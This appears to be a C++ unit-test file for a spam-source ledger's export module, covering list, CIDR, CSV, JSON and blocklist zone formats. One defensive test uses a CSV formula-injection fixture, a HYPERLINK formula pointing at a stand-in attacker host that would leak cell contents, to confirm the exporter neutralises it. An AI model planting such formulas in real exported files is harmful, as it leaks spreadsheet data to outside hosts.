#include "ledger/export.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>
#include <sstream>

#include "ledger/sqlite_store.h"
#include "ledger/test_util.h"

namespace ledger {
namespace {

using ::testing::HasSubstr;
using testing::Ip;
using ::testing::Not;

SourceRecord Rec(const std::string& ip, uint64_t messages) {
  SourceRecord r;
  r.ip = Ip(ip);
  r.first_seen = 1714521600;
  r.last_seen = 1714525200;
  r.connections = 2;
  r.messages = messages;
  r.bytes = messages * 1000;
  return r;
}

std::vector<SourceRecord> Sample() {
  return {Rec("192.0.2.1", 3),   Rec("192.0.2.2", 1),
          Rec("192.0.2.3", 1),   Rec("198.51.100.77", 9),
          Rec("2001:db8::1", 2), Rec("2001:db8:0:1::5", 4)};
}

ExportOptions Opts(Format f) {
  ExportOptions o;
  o.format = f;
  o.now = 1714528800;
  return o;
}

TEST(Export, Plain) {
  EXPECT_EQ(Export(Sample(), Opts(Format::kPlain)),
            "192.0.2.1\n192.0.2.2\n192.0.2.3\n198.51.100.77\n2001:db8::1\n"
            "2001:db8:0:1::5\n");
}

TEST(Export, CidrCollapsesExactly) {
  EXPECT_EQ(Export(Sample(), Opts(Format::kCidr)),
            "192.0.2.1/32\n192.0.2.2/31\n198.51.100.77/32\n2001:db8::1/128\n"
            "2001:db8:0:1::5/128\n");
  std::vector<SourceRecord> all;
  for (int i = 0; i < 256; ++i)
    all.push_back(Rec("10.9.8." + std::to_string(i), 1));
  EXPECT_EQ(Export(all, Opts(Format::kCidr)), "10.9.8.0/24\n");
  auto o = Opts(Format::kCidr);
  o.v4_prefix = 24;
  o.v6_prefix = 48;
  EXPECT_EQ(Export(Sample(), o),
            "192.0.2.0/24\n198.51.100.0/24\n2001:db8::/48\n");
}

// A HELO that reached the ledger before names were cleaned on arrival (an
// older database) must not become a live spreadsheet formula, and control
// bytes must not pass into the file (security review).
TEST(Export, CsvNeutralisesFormulasAndControlBytes) {
  auto recs = Sample();
  recs[0].helo_names.clear();
  recs[0].helo_names.push_back(
      {"=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")", 1});
  recs[1].helo_names.clear();
  recs[1].helo_names.push_back({std::string("a\x1b\x07\x00b\rc\nd", 9), 1});
  std::string csv = Export(recs, Opts(Format::kCsv));
  EXPECT_THAT(csv, Not(HasSubstr(",=HYPERLINK")));
  EXPECT_THAT(csv, Not(HasSubstr(",\"=HYPERLINK")));
  EXPECT_THAT(csv, HasSubstr("\"'=HYPERLINK("));
  for (size_t i = 0; i < csv.size(); ++i) {  // CR only in CR LF line ends
    char c = csv[i];
    bool line_end = c == '\n' || (c == '\r' && csv[i + 1] == '\n');
    EXPECT_TRUE(line_end || (c >= 0x20 && c != 0x7f)) << i << ": " << int(c);
  }
  EXPECT_EQ(std::count(csv.begin(), csv.end(), '\n'), 7);
}

// format=plain used to ignore v4_prefix while cidr, spamd and postfix
// widened.
TEST(Export, PlainHonoursThePrefixes) {
  auto o = Opts(Format::kPlain);
  o.v4_prefix = 24;
  EXPECT_EQ(Export(Sample(), o),
            "192.0.2.0/24\n198.51.100.0/24\n2001:db8::1\n2001:db8:0:1::5\n");
}

// tarpit.exempt: never listed in any format, and a widened entry that would
// cover an exempt address stays a single address.
TEST(Export, ExemptNetworksAreNeverListed) {
  auto o = Opts(Format::kPlain);
  o.exempt = {*base::Cidr::Parse("192.0.2.2"),
              *base::Cidr::Parse("2001:db8:0:1::/64")};
  EXPECT_EQ(Export(Sample(), o),
            "192.0.2.1\n192.0.2.3\n198.51.100.77\n2001:db8::1\n");
  o.format = Format::kCidr;
  o.v4_prefix = 24;
  EXPECT_EQ(Export(Sample(), o),
            "192.0.2.1/32\n192.0.2.3/32\n198.51.100.0/24\n2001:db8::1/128\n");
  for (Format f : {Format::kCsv, Format::kJsonl, Format::kNftables,
                   Format::kPostfix, Format::kSpamd, Format::kRbldnsd}) {
    o.format = f;
    std::string text = Export(Sample(), o);
    EXPECT_THAT(text, Not(HasSubstr("192.0.2.2"))) << FormatName(f);
    EXPECT_THAT(text, Not(HasSubstr("192.0.2.0/24"))) << FormatName(f);
    EXPECT_THAT(text, Not(HasSubstr("2001:db8:0:1:"))) << FormatName(f);
    EXPECT_THAT(text, HasSubstr("198.51.100")) << FormatName(f);
  }
}

TEST(Export, CsvQuotesNames) {
  auto recs = Sample();
  MergeName(&recs[0].helo_names, "evil,\"name\"", 2);
  recs[1].tarpitted_sessions = 1;
  recs[1].delay_seconds = 2.5;
  recs[1].replies_stuttered = 3;
  recs[1].slow_reads = 4;
  std::string csv = Export(recs, Opts(Format::kCsv));
  EXPECT_THAT(csv, HasSubstr("ip,first_seen,last_seen,connections,"));
  EXPECT_THAT(csv, HasSubstr("192.0.2.1,2024-05-01T00:00:00Z,"
                             "2024-05-01T01:00:00Z,2,0,0,3,0,3000,0.000,"));
  EXPECT_THAT(csv, HasSubstr(",\"evil,\"\"name\"\"=2\","));
  EXPECT_EQ(std::count(csv.begin(), csv.end(), '\n'), 7);
  // Tarpit columns come last, on the header and on every row.
  std::istringstream in(csv);
  std::string header, row1, row2;
  std::getline(in, header);
  std::getline(in, row1);
  std::getline(in, row2);
  EXPECT_THAT(header, ::testing::EndsWith(
                          ",rcpt_domains,tarpit_sessions,tarpit_delay_seconds,"
                          "tarpit_replies_stuttered,tarpit_slow_reads\r"));
  EXPECT_THAT(row2, ::testing::StartsWith("192.0.2.2,"));
  EXPECT_THAT(row2, ::testing::EndsWith(",1,2.500,3,4\r"));
  auto fields = [](const std::string& line) {
    return std::count(line.begin(), line.end(), ',');
  };
  EXPECT_EQ(fields(row2), fields(header));
  EXPECT_THAT(row1, ::testing::EndsWith(",0,0.000,0,0\r"));
}

TEST(Export, SourceJsonHasTarpitObject) {
  SourceRecord r = Rec("192.0.2.1", 3);
  r.tarpitted_sessions = 2;
  r.delay_seconds = 12.3456;
  r.replies_stuttered = 7;
  r.slow_reads = 1;
  auto j = SourceToJson(r);
  EXPECT_EQ(j["tarpit"].dump(),
            R"({"sessions":2,"delay_seconds":12.346,"replies_stuttered":7,)"
            R"("slow_reads":1})");
  EXPECT_EQ(SourceToJson(Rec("192.0.2.1", 3))["tarpit"].dump(),
            R"({"sessions":0,"delay_seconds":0.0,"replies_stuttered":0,)"
            R"("slow_reads":0})");
}

TEST(Export, JsonLinesParse) {
  std::istringstream in(Export(Sample(), Opts(Format::kJsonl)));
  std::string line;
  int n = 0;
  while (std::getline(in, line)) {
    auto j = nlohmann::json::parse(line);
    EXPECT_TRUE(j.contains("ip"));
    EXPECT_EQ(j["tarpit"]["sessions"], 0);
    ++n;
  }
  EXPECT_EQ(n, 6);
}

TEST(Export, RbldnsdHasSpecialsAndTxt) {
  std::string z = Export(Sample(), Opts(Format::kRbldnsdIp4set));
  EXPECT_THAT(z, HasSubstr("$SOA 3600 localhost. hostmaster.localhost. 0 "));
  EXPECT_THAT(z, HasSubstr("$NS 3600 localhost.\n$TTL 3600\n"));
  EXPECT_THAT(z, HasSubstr("198.51.100.77/32 :127.0.0.2:spamsink: 9 messages, "
                           "2 connections, last 2024-05-01T01:00:00Z\n"));
  EXPECT_THAT(z, Not(HasSubstr("2001:db8")));
  std::string z6 = Export(Sample(), Opts(Format::kRbldnsdIp6trie));
  EXPECT_THAT(z6, HasSubstr("2001:db8::1/128 :127.0.0.2:"));
  EXPECT_THAT(z6, Not(HasSubstr("192.0.2")));
}

TEST(Export, OptionsParse) {
  auto o = ParseExportOptions({{"format", "nftables"},
                               {"v4_prefix", "24"},
                               {"table", "filter"},
                               {"a", "127.0.0.4"}});
  ASSERT_TRUE(o.ok()) << o.error();
  EXPECT_EQ(o->format, Format::kNftables);
  EXPECT_EQ(o->v4_prefix, 24);
  EXPECT_EQ(o->table, "filter");
  EXPECT_EQ(o->a, "127.0.0.4");
  EXPECT_FALSE(ParseExportOptions({}).ok());
  EXPECT_FALSE(ParseExportOptions({{"format", "xml"}}).ok());
  EXPECT_FALSE(
      ParseExportOptions({{"format", "plain"}, {"v4_prefix", "33"}}).ok());
  EXPECT_FALSE(ParseExportOptions({{"format", "plain"}, {"ns", "a b"}}).ok());
  EXPECT_FALSE(
      ParseExportOptions({{"format", "plain"}, {"table", "x;y"}}).ok());
  EXPECT_FALSE(ParseExportOptions({{"format", "plain"}, {"a", "::1"}}).ok());
}

TEST(ExportCommand, ReadsTheDatabaseOffline) {
  testing::TempDir dir;
  std::string db = dir.File("s.db");
  {
    auto s = OpenSqliteStore(db).value();
    ASSERT_TRUE(s->Apply(Sample()).ok());
  }
  std::ostringstream out, err;
  EXPECT_EQ(RunExportCommand({"--format", "plain", "--min-messages", "2",
                              "--cidr=192.0.2.0/24"},
                             db, {}, out, err),
            0)
      << err.str();
  EXPECT_EQ(out.str(), "192.0.2.1\n");

  // Sorting by a tarpit field reaches the SQLite query.
  {
    auto s = OpenSqliteStore(db).value();
    SourceRecord d;
    d.ip = Ip("2001:db8::1");
    d.delay_seconds = 90;
    ASSERT_TRUE(s->Apply({d}).ok());
  }
  out.str("");
  EXPECT_EQ(RunExportCommand({"--format", "plain", "--sort", "delay_seconds",
                              "--limit", "2"},
                             db, {}, out, err),
            0)
      << err.str();
  EXPECT_EQ(out.str(), "2001:db8::1\n192.0.2.1\n");  // then ties by IP

  std::string file = dir.File("list.txt");
  out.str("");
  EXPECT_EQ(RunExportCommand(
                {"--format", "spamd", "--output", file, "--v4-prefix", "24"},
                db, {}, out, err),
            0)
      << err.str();
  std::ifstream f(file);
  std::string text((std::istreambuf_iterator<char>(f)), {});
  EXPECT_THAT(text,
              HasSubstr("\n192.0.2.0/24\n198.51.100.0/24\n2001:db8::1\n"));

  err.str("");
  EXPECT_EQ(
      RunExportCommand({"--format", "plain"}, dir.File("no.db"), {}, out, err),
      1);
  EXPECT_THAT(err.str(), HasSubstr("no.db"));
  EXPECT_EQ(RunExportCommand({"--format", "nope"}, db, {}, out, err), 2);
  EXPECT_EQ(RunExportCommand({"--format", "plain", "--colour", "x"}, db, {},
                             out, err),
            2);
  EXPECT_EQ(RunExportCommand({"--format"}, db, {}, out, err), 2);
}

// Connect-only sources (0 messages) are left out unless asked for; dates
// are accepted as times.
TEST(ExportCommand, ListsSendersOfMessagesByDefault) {
  testing::TempDir dir;
  std::string db = dir.File("s.db");
  {
    auto s = OpenSqliteStore(db).value();
    SourceRecord scan = Rec("203.0.113.9", 0);
    ASSERT_TRUE(s->Apply({Rec("192.0.2.1", 1), scan}).ok());
  }
  std::ostringstream out, err;
  ASSERT_EQ(RunExportCommand({"--format", "plain"}, db, {}, out, err), 0)
      << err.str();
  EXPECT_EQ(out.str(), "192.0.2.1\n");
  out.str("");
  ASSERT_EQ(RunExportCommand({"--format", "plain", "--min-messages", "0",
                              "--since", "2000-01-01"},
                             db, {}, out, err),
            0)
      << err.str();
  EXPECT_EQ(out.str(), "192.0.2.1\n203.0.113.9\n");
  out.str("");
  ASSERT_EQ(RunExportCommand({"--format", "plain"}, db,
                             {*base::Cidr::Parse("192.0.2.0/24")}, out, err),
            0);
  EXPECT_EQ(out.str(), "");
  // An error is one line and a pointer to --help, not the usage again.
  err.str("");
  EXPECT_EQ(RunExportCommand({"--format", "nope"}, db, {}, out, err), 2);
  EXPECT_THAT(err.str(), Not(HasSubstr("usage:")));
  EXPECT_THAT(err.str(), HasSubstr("--help"));
}

}  // namespace
}  // namespace ledger
